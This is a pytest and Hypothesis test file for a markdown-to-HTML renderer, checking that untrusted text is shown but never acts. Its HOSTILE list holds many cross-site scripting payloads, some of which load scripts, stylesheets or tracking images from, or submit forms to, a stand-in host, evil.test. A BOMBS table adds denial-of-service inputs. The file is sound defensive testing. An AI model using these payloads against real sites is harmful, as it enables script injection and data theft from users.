"""All text is shown, and none of it acts."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backscroll.render.html.prose import DEEPEST, LONGEST_LINK, MAX_RENDERED, prose, safe_link
from tests.render.html.markup_parser import assert_harmless, look

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<form action='https://evil.test'><input name=q><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"https://ok.test\" onclick='alert(1)'>x</a>",
    "<p style='background:url(https://evil.test)'>x</p>",
    "<div id=location name=cookie class=bar>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- never closed <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</div></article></main><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<a\nhref=javascript:alert(1)\n>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.test/1)",
    "[x](//evil.test/x)",
    "[x](/settings?wipe=1)",
    "[x](https://ok.test/\"onmouseover=alert(1)//)",
    "[x](https://ok.test/'><script>alert(1)</script>)",
    "[x](https://ok.test 'title\" onclick=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.test/track.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![<img src=x onerror=alert(1)>](https://evil.test/"onerror="alert(1))',
    "[![x](https://evil.test/a.png)](javascript:alert(1))",
    "![[x](javascript:alert(1))](https://evil.test)",
    "[[x](https://a.test)](https://b.test)",
    "https://ok.test/\"><script>alert(1)</script>",
    "https://ok.test/'onmouseover='alert(1)",
    "javascript:alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "~~~<img/src=x/onerror=alert(1)>\nx\n~~~",
    "```x\" onmouseover=\"alert(1)\ny\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- <script>\n- alert(1)\n- </script>",
    "> <svg onload=alert(1)>\n> </blockquote>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\u202e)1(trela\u202c &#x202e;x &#8238;y &#x2066;z",
    "\ud800<script>\udfff",
    "<script>\ralert(1)\r</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
FRAMES = [
    "{}",
    "text {} text",
    "- {}",
    "> {}",
    "# {}",
    "|a|\n|-|\n|{}|",
    "**{}**",
    "[{}](https://ok.test)",
    "1. a\n\n   {}",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_acts_in_any_place(payload: str) -> None:
    for frame in FRAMES:
        seen = assert_harmless(prose(frame.replace("{}", payload)))
        assert "img" not in seen.tags
        assert set(seen.values("target")) <= {"_blank"}
        assert set(seen.values("rel")) <= {"noopener noreferrer nofollow"}
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", seen.text)


@given(
    st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", " ", "`", "```\n", "*", "[", "](", "|", "> ", "- "]), max_size=8)
)
def test_no_mixture_of_payloads_acts(parts: list[str]) -> None:
    assert_harmless(prose("".join(parts)))


MARKDOWN = st.text(st.sampled_from("ab <>&\"'`*_~#|-=+[]()!\\/:.1\n\t^{}x\x00\u202e"), max_size=80)


@given(MARKDOWN | st.text(st.characters(codec=None)))
def test_any_text_is_harmless(markdown: str) -> None:
    assert_harmless(prose(markdown))


@given(st.lists(st.from_regex(r"[A-Za-zäßé日本0-9]+", fullmatch=True)))
def test_every_word_is_shown(words: list[str]) -> None:
    assert look(prose(" ".join(words))).text.split() == words


@given(st.lists(st.from_regex(r"</?[A-Za-z]{1,9}( [a-z]+='[a-z]*')?/?>|[a-z]+|<!-- [a-z]+ -->|\n", fullmatch=True)))
def test_tags_are_shown_as_they_were_written(parts: list[str]) -> None:
    source = "x " + " ".join(parts)
    assert look(prose(source)).text.split() == source.split()


@pytest.mark.parametrize(
    ("markdown", "inside"),
    [
        ("use the <Foo> component", "use the &lt;Foo&gt; component"),
        ("<details>\n<summary>x</summary>\n\n**b**\n\n</details>", "&lt;summary&gt;x&lt;/summary&gt;"),
        ("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"),
        ("[note]: hello", "[note]: hello"),
        ("[a]: https://x.test\n\nuse [a]", '<a href="https://x.test" target="_blank"'),
        ("# a\n## b\n#### d\n###### f", "<h3>a</h3>\n<h4>b</h4>\n<h6>d</h6>\n<h6>f</h6>"),
        ("- [ ] a\n- [x] b", '<span class="task">☐</span> a'),
        ("~~a~~ **b** *c*", "<del>a</del> <strong>b</strong> <em>c</em>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li>'),
        ("[a](src/a.py#L3)", '<span title="src/a.py#L3">a</span>'),
        ("![alt](https://x.test/a.png)", ">image: alt</a>"),
        ("![alt](a.png)", '<span title="a.png">image: alt</span>'),
        ("<me@x.test>", 'href="mailto:me@x.test"'),
        ("> [!NOTE]\n> x", '<blockquote><p class="quote-kind">Note</p>'),
        ("a[^1]\n\n[^1]: b", "a<sup>[1]</sup>"),
        ("a  \nb\nc", "a<br>\nb\nc"),
        (
            "```py\nx = 1\n```",
            '<figure class="code-block" data-language="py"><pre class="code" tabindex="0"><code>x = <',
        ),
        (
            "```\n<a>\n```",
            '<figure class="code-block"><pre class="code" tabindex="0"><code>&lt;a&gt;</code></pre></figure>',
        ),
        ("|a|b|\n|-|-:|\n|1|2|", '<td>1</td><td class="align-right">2</td>'),
    ],
)
def test_markdown_reads_as_it_was_meant(markdown: str, inside: str) -> None:
    assert inside in prose(markdown)


@pytest.mark.parametrize(
    ("words", "url"),
    [
        ("see https://a.test/b.", "https://a.test/b"),
        ("(https://a.test/b_(c))", "https://a.test/b_(c)"),
        ("HTTP://A.test?x=1&y=2!", "HTTP://A.test?x=1&y=2"),
        ("**https://a.test/b**", "https://a.test/b"),
        ("https://a.test/日本、", "https://a.test/日本"),
        ("<b>https://a.test</b>", "https://a.test"),
    ],
)
def test_bare_addresses_become_links(words: str, url: str) -> None:
    assert look(prose(words)).values("href") == [url]


@pytest.mark.parametrize(
    "words", ["`https://a.test`", "```\nhttps://a.test\n```", "xhttps://a.test", "https://", "ftp://a.test"]
)
def test_code_and_invalid_addresses_are_not_linked(words: str) -> None:
    assert look(prose(words)).values("href") == []


def test_links_are_not_nested() -> None:
    assert look(prose("[https://a.test ![x](https://b.test)](https://c.test)")).values("href") == ["https://c.test"]


def test_very_long_addresses_are_no_links() -> None:
    assert safe_link("https://a.test/" + "x" * LONGEST_LINK) is None
    assert look(prose("https://a.test/" + "x" * LONGEST_LINK)).values("href") == []


MANY = 100_000
BOMBS = {
    "quotes": ">" * MANY,
    "brackets": "[" * MANY + "]" * MANY,
    "pictures": "![" * MANY,
    "emphasis": "*" * MANY + "a" + "*" * MANY,
    "half emphasis": "*a_ " * MANY,
    "quoted lists": "> - " * (MANY // 4),
    "nested lists": "".join(" " * (2 * depth) + "- a\n" for depth in range(300)),
    "a wide table": "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "a\n" * 2_000,
    "a long table": "|a|b|\n|-|-|\n" + "|x\n" * 60_000,
    "links": "[a](b" * (MANY // 5),
    "definitions": "[a]:\n" * (MANY // 5),
    "a definition used often": "[a]: " + "x" * 50_000 + "\n\n" + "[a] " * 20_000,
    "footnotes": "[^a]" * (MANY // 4) + "\n\n[^a]: x",
    "tags": "<b>" * (MANY // 3),
    "half tags": "<a b='" * (MANY // 6),
    "comments": "<!--" * (MANY // 4),
    "ticks": "".join("`" * count + " " for count in range(500)),
    "addresses": "http://" * (MANY // 7),
    "closed brackets": "https://a.test/" + ")" * MANY,
    "a long line": "a" * MAX_RENDERED,
}


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_end_small_and_with_all_their_text(name: str) -> None:
    shown = prose(BOMBS[name])
    seen = assert_harmless(shown)
    assert len(shown) < 20 * len(BOMBS[name]) + 1_000
    if "plain" in seen.values("class"):
        assert seen.text == BOMBS[name]


def test_past_a_cap_the_text_is_shown_as_it_was_written() -> None:
    assert prose("*a*" * MAX_RENDERED).startswith('<div class="prose"><pre class="plain" tabindex="0">*a**a*')
    assert "plain" in look(prose("> " * (DEEPEST + 1) + "x")).values("class")
    assert "plain" not in look(prose("> " * (DEEPEST - 1) + "x")).values("class")
